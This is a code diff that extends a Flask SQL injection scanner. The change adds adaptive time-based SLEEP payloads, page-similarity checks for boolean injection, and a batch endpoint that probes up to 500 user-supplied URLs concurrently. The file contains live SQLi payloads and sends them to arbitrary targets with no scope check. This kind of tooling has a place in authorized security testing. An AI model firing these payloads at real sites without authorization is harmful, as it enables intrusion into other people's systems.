@@ -1,48 +1,130 @@
 from flask import Blueprint, request, jsonify, Response, send_from_directory
-import requests, time, json
-from urllib.parse import quote
-import re
+import json
+from difflib import SequenceMatcher
+from urllib.parse import quote, urlsplit
+from itertools import chain, zip_longest
+from common.http import get_session, ResponseCache
+from common.ratelimit import HostRateLimiter
+from common.scheduler import iter_completed
+from common.urls import query_params, inject_param
+from sql_injection.signatures import ERROR_MATCHER
+from sql_injection.timing import TimingEngine
 import os
 
 sql_injection_bp = Blueprint('sql_injection_bp', __name__)
 
 # Payloads for testing SQL Injection
+BOOLEAN_FALSE = "' OR '1'='2'"
+
 PAYLOADS = [
     ("' OR '1'='1'", "Boolean True"),
-    ("' OR '1'='2'", "Boolean False"),
+    (BOOLEAN_FALSE, "Boolean False"),
     ("'", "Error Based"),
     (")--", "Error Based"),
     ("' OR ''='", "Error Based"),
     ("'\"\"", "Error Based"),
     (";''", "Error Based"),
-    ("XOR(IF(NOW()=SYSDATE(),SLEEP(5),0))OR", "Time Based"),
-    ("IF(NOW()=SYSDATE(),SLEEP(5),0)", "Time Based"),
-    ("XOR(IF(NOW()=SYSDATE(),SLEEP(5),0) AND 1=1)", "Time Based"),
+    # {delay} is filled in per target by the adaptive timing engine
+    ("XOR(IF(NOW()=SYSDATE(),SLEEP({delay}),0))OR", "Time Based"),
+    ("IF(NOW()=SYSDATE(),SLEEP({delay}),0)", "Time Based"),
+    ("XOR(IF(NOW()=SYSDATE(),SLEEP({delay}),0) AND 1=1)", "Time Based"),
 ]
 
-MYSQL_ERROR_SIGS = [
-    r"you have an error in your sql syntax",
-    r"check the manual that corresponds to your mysql server version",
-    r"warning: mysql",
-    r"mysql_fetch",
-    r"mysql_num_rows",
-    r"mysql_fetch_array",
-    r"mysql_fetch_assoc",
-    r"mysql_fetch_object",
-    r"mysql_result",
-    r"mysql_fetch_row",
-    r"mysql_",
-    r"sql syntax.*mysql",
-    r"valid mysql result",
-    r"supplied argument is not a valid mysql",
-    r"near .* at line \d+",
-]
+DEFAULT_RATE = 3  # requests per second per host, replaces the old fixed 0.3s sleep
+DEFAULT_CONCURRENCY = 10
+MAX_CONCURRENCY = 50
+MAX_BATCH_URLS = 500
+BOOLEAN_SIMILARITY = 0.95  # True/False pages less similar than this look injectable
+MAX_COMPARE_CHARS = 20000
 
 @sql_injection_bp.route("/", methods=["GET"])
 def serve_ui():
     folder_path = os.path.dirname(os.path.abspath(__file__))
     return send_from_directory(folder_path, "index.html")
 
+def build_test_url(target_url, param, payload):
+    """Inject into the named parameter, or append to the URL when param is None."""
+    if param is None:
+        return target_url + quote(payload)
+    return inject_param(target_url, param, quote(payload))
+
+def page_similarity(a, b, strip=()):
+    """Similarity ratio of two bodies, ignoring reflected payloads.
+
+    Only computed for the Boolean True/False pair, once per parameter, so the
+    exact ratio is affordable and the reported value is the real similarity.
+    """
+    for token in strip:
+        a, b = a.replace(token, ""), b.replace(token, "")
+    matcher = SequenceMatcher(None, a[:MAX_COMPARE_CHARS], b[:MAX_COMPARE_CHARS])
+    return matcher.ratio()
+
+def make_result(payload, test_url, status, ptype, error_hit, target_url, param):
+    result = {"payload": payload, "url": test_url, "status": status, "type": ptype}
+    if error_hit:
+        result.update({"dbms": error_hit[0], "signature": error_hit[1]})
+    if param is not None:
+        result.update({"target": target_url, "param": param})
+    return result
+
+def test_time_payload(timing, target_url, param, template, ptype):
+    def url_for_delay(delay):
+        return build_test_url(target_url, param, template.format(delay=delay))
+
+    payload = test_url = template
+    status = "Safe"
+    error_hit = None
+
+    try:
+        profile = timing.profile(target_url)
+        payload = template.format(delay=profile.delay)
+        test_url = url_for_delay(profile.delay)
+        response, elapsed = timing.fetch(test_url, profile.timeout)
+        error_hit = ERROR_MATCHER.search(response.text) if response is not None else None
+
+        if error_hit:
+            status = "Error-based SQLi Detected"
+        elif not profile.is_delayed(elapsed):
+            status = f"{ptype} Not Detected (Delay: {elapsed:.2f}s)"
+        elif timing.confirm(url_for_delay, profile):
+            status = f"{ptype} Detected (Delay: {elapsed:.2f}s, Sleep: {profile.delay}s, Baseline: {profile.mean:.2f}s)"
+        else:
+            status = f"{ptype} Not Detected (Unconfirmed delay: {elapsed:.2f}s)"
+
+    except Exception as e:
+        status = f"Error: {str(e)}"
+
+    return make_result(payload, test_url, status, ptype, error_hit, target_url, param)
+
+def test_payload(cache, timing, target_url, param, payload, ptype):
+    if "time based" in ptype.lower():
+        return test_time_payload(timing, target_url, param, payload, ptype)
+
+    test_url = build_test_url(target_url, param, payload)
+    status = "Safe"
+    error_hit = None
+
+    try:
+        # The Boolean False page is read again as the Boolean True baseline
+        response, _ = cache.get(test_url, timeout=15, reads=2 if payload == BOOLEAN_FALSE else 1)
+        body = response.text
+
+        error_hit = ERROR_MATCHER.search(body)
+        if error_hit:
+            status = "Error-based SQLi Detected"
+
+        elif ptype == "Boolean True":
+            # Same URL as the Boolean False payload, so the cache serves it once per scan
+            baseline, _ = cache.get(build_test_url(target_url, param, BOOLEAN_FALSE), timeout=10, reads=2)
+            ratio = page_similarity(body, baseline.text, strip=(payload, BOOLEAN_FALSE, quote(payload), quote(BOOLEAN_FALSE)))
+            if ratio < BOOLEAN_SIMILARITY:
+                status = f"Possible Boolean SQLi (Similarity: {ratio:.2f})"
+
+    except Exception as e:
+        status = f"Error: {str(e)}"
+
+    return make_result(payload, test_url, status, ptype, error_hit, target_url, param)
+
 @sql_injection_bp.route("/api/sqli", methods=["POST"])
 def scan_sqli():
     data = request.get_json()
@@ -50,39 +132,55 @@ def scan_sqli():
     if not target_url or "=" not in target_url:
         return jsonify({"error": "Invalid URL"}), 400
 
+    limiter = HostRateLimiter(DEFAULT_RATE)
+    cache = ResponseCache(get_session(), limiter)
+    timing = TimingEngine(get_session(), limiter)
+
     def generate():
         for payload, ptype in PAYLOADS:
-            encoded_payload = quote(payload)
-            test_url = target_url + encoded_payload
-            status = "Safe"
-
-            try:
-                start_time = time.time()
-                response = requests.get(test_url, timeout=15)
-                elapsed = time.time() - start_time
-                body = response.text
-
-                if any(re.search(sig, body, re.IGNORECASE) for sig in MYSQL_ERROR_SIGS):
-                    status = "Error-based SQLi Detected"
-
-                elif ptype == "Boolean True":
-                    false_url = target_url + quote("' OR '1'='2'")
-                    r_false = requests.get(false_url, timeout=10).text
-                    if len(r_false) != len(response.text):
-                        status = "Possible Boolean SQLi"
-
-                elif "time based" in ptype.lower():
-                    if elapsed >= 4:
-                        status = f"{ptype} Detected (Delay: {elapsed:.2f}s)"
-                    else:
-                        status = f"{ptype} Not Detected (Delay: {elapsed:.2f}s)"
-
-            except Exception as e:
-                status = f"Error: {str(e)}"
-
-            result = {"payload": payload, "url": test_url, "status": status, "type": ptype}
+            result = test_payload(cache, timing, target_url, None, payload, ptype)
             yield json.dumps(result) + "\n"
-            time.sleep(0.3)
         yield json.dumps({"done": True}) + "\n"
 
     return Response(generate(), mimetype="text/plain")
+
+@sql_injection_bp.route("/api/sqli/batch", methods=["POST"])
+def scan_sqli_batch():
+    data = request.get_json() or {}
+    urls = data.get("urls") or []
+    if not isinstance(urls, list) or not urls:
+        return jsonify({"error": "Provide a non-empty 'urls' list"}), 400
+    if len(urls) > MAX_BATCH_URLS:
+        return jsonify({"error": f"At most {MAX_BATCH_URLS} URLs per batch"}), 400
+
+    concurrency = min(max(int(data.get("concurrency", DEFAULT_CONCURRENCY)), 1), MAX_CONCURRENCY)
+    rate = float(data.get("rate", DEFAULT_RATE))
+
+    targets = [(u.strip(), query_params(u.strip())) for u in urls if isinstance(u, str)]
+    skipped = [u for u, params in targets if not u.startswith(("http://", "https://")) or not params]
+    targets = [(u, params) for u, params in targets if u not in skipped]
+    if not targets:
+        return jsonify({"error": "No URL with query parameters to test"}), 400
+
+    # One job list per host, interleaved so a throttled host does not starve the pool
+    by_host = {}
+    for url, params in targets:
+        jobs = by_host.setdefault(urlsplit(url).hostname, [])
+        jobs.extend((url, param, payload, ptype) for param in params for payload, ptype in PAYLOADS)
+    jobs = [j for j in chain.from_iterable(zip_longest(*by_host.values())) if j is not None]
+
+    limiter = HostRateLimiter(rate)
+    cache = ResponseCache(get_session(), limiter)
+    timing = TimingEngine(get_session(), limiter)
+
+    def run(job):
+        return test_payload(cache, timing, *job)
+
+    def generate():
+        for url in skipped:
+            yield json.dumps({"target": url, "status": "Skipped: no query parameters"}) + "\n"
+        for result in iter_completed(run, jobs, concurrency):
+            yield json.dumps(result) + "\n"
+        yield json.dumps({"done": True, "targets": len(targets), "jobs": len(jobs)}) + "\n"
+
+    return Response(generate(), mimetype="text/plain")